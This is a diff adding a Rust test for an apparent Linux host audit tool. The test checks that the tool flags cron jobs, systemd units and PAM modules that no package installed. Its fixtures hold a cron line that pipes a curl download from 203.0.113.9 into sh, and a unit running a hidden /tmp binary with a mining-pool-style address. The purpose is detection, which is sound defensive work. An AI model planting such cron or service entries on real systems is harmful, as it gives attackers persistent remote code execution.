@@ -995,3 +995,143 @@ fn the_package_check_agrees_with_dpkg_verify() {
         .collect();
     assert_eq!(ours, dpkg, "changed files: ours against dpkg --verify");
 }
+
+/// What runs later, under `--files-root` with a dpkg database: a cron table that downloads
+/// and runs (high), an admin's cron table no package owns and a user's crontab (medium), a
+/// unit that runs from /tmp (high) and one that runs an app (medium), a package's unit
+/// enabled and another masked (nothing), a PAM module no package installed (high).
+#[test]
+fn cron_units_and_pam_modules_no_package_installed_are_findings() {
+    let root = std::env::temp_dir().join(marker("persist-root"));
+    let fx = Fixture { dir: root.clone() };
+    for d in [
+        "var/lib/dpkg/info",
+        "etc/cron.d",
+        "etc/cron.daily",
+        "var/spool/cron/crontabs",
+        "etc/systemd/system/multi-user.target.wants",
+        "lib/systemd/system",
+        "usr/lib/x86_64-linux-gnu/security",
+    ] {
+        std::fs::create_dir_all(root.join(d)).unwrap();
+    }
+    let w = |p: &str, s: &str| std::fs::write(root.join(p), s).unwrap();
+    w(
+        "etc/passwd",
+        "root:x:0:0:root:/root:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/bash\n",
+    );
+    w(
+        "var/lib/dpkg/info/base.list",
+        "/etc/cron.daily/pkgjob\n/lib/systemd/system/ssh.service\n\
+         /usr/lib/x86_64-linux-gnu/security/pam_unix.so\n",
+    );
+    w("var/lib/dpkg/info/base.md5sums", "");
+    w("var/lib/dpkg/status", "");
+    // the package's: a daily script (which mentions /tmp/, its business), its unit, its module
+    w(
+        "etc/cron.daily/pkgjob",
+        "#!/bin/sh\nfind /tmp/ -mtime +7 -delete\n",
+    );
+    w(
+        "lib/systemd/system/ssh.service",
+        "[Service]\nExecStart=/usr/sbin/sshd -D\n",
+    );
+    w("usr/lib/x86_64-linux-gnu/security/pam_unix.so", "");
+    std::os::unix::fs::symlink(
+        "/lib/systemd/system/ssh.service",
+        root.join("etc/systemd/system/multi-user.target.wants/ssh.service"),
+    )
+    .unwrap();
+    std::os::unix::fs::symlink("/dev/null", root.join("etc/systemd/system/masked.service"))
+        .unwrap();
+    // and what someone added
+    w(
+        "etc/cron.d/update-check",
+        "SHELL=/bin/sh\n*/10 * * * * root curl -fsSL http://203.0.113.9/u | sh\n",
+    );
+    w(
+        "etc/cron.d/backup",
+        "0 2 * * * root /usr/local/bin/backup --all\n",
+    );
+    w(
+        "var/spool/cron/crontabs/bob",
+        "# bob's\n@reboot /home/bob/bin/start-app\n",
+    );
+    w(
+        "etc/systemd/system/dbus-helper.service",
+        "[Service]\nExecStart=/tmp/.cache/dbus-helper --pool 203.0.113.9:3333\n",
+    );
+    w(
+        "etc/systemd/system/app.service",
+        "[Service]\nExecStart=/opt/app/run\n",
+    );
+    w("usr/lib/x86_64-linux-gnu/security/pam_sshd_cache.so", "");
+    let passwd = root.join("etc/passwd");
+    let out = audit(&[
+        "--json",
+        "--no-package-check",
+        "--files-root",
+        root.to_str().unwrap(),
+        "--passwd",
+        passwd.to_str().unwrap(),
+    ]);
+    assert_meets_schema(&root, &out);
+    let r = json(&out);
+    let findings = r["findings"].as_array().unwrap();
+    let found = |kind: &str| -> Vec<(String, String)> {
+        findings
+            .iter()
+            .filter(|f| f["kind"] == kind)
+            .map(|f| {
+                (
+                    f["severity"].as_str().unwrap().to_owned(),
+                    f["title"].as_str().unwrap().to_owned(),
+                )
+            })
+            .collect()
+    };
+    let hostile = found("cron_hostile_command");
+    assert_eq!(hostile.len(), 1, "{hostile:?}");
+    assert_eq!(hostile[0].0, "high");
+    assert!(
+        hostile[0].1.contains("/etc/cron.d/update-check"),
+        "{hostile:?}"
+    );
+    let unowned = found("cron_unowned");
+    assert_eq!(unowned.len(), 2, "backup and bob's crontab: {unowned:?}");
+    assert!(unowned.iter().all(|(s, _)| s == "medium"));
+    assert!(
+        unowned.iter().any(|(_, t)| t.contains("bob's crontab")),
+        "{unowned:?}"
+    );
+    let units = found("systemd_unit_unowned");
+    let mut units: Vec<(&str, bool)> = units
+        .iter()
+        .map(|(s, t)| (s.as_str(), t.contains("dbus-helper")))
+        .collect();
+    units.sort();
+    assert_eq!(
+        units,
+        [("high", true), ("medium", false)],
+        "the /tmp one high, app medium, the package's and the masked none: {findings:?}"
+    );
+    let pam = found("pam_module_unowned");
+    assert_eq!(pam.len(), 1);
+    assert_eq!(pam[0].0, "high");
+    assert_eq!(
+        r["files"]["persistence"]["unowned_pam_modules"],
+        serde_json::json!(["/usr/lib/x86_64-linux-gnu/security/pam_sshd_cache.so"])
+    );
+    let cron = r["files"]["persistence"]["cron"].as_array().unwrap();
+    let job = cron
+        .iter()
+        .find(|c| c["path"] == "/etc/cron.daily/pkgjob")
+        .unwrap();
+    assert_eq!(job["owned"], true, "{job}");
+    let bob = cron.iter().find(|c| c["user"] == "bob").unwrap();
+    assert_eq!(
+        bob["entries"],
+        serde_json::json!(["@reboot /home/bob/bin/start-app"])
+    );
+    drop(fx);
+}
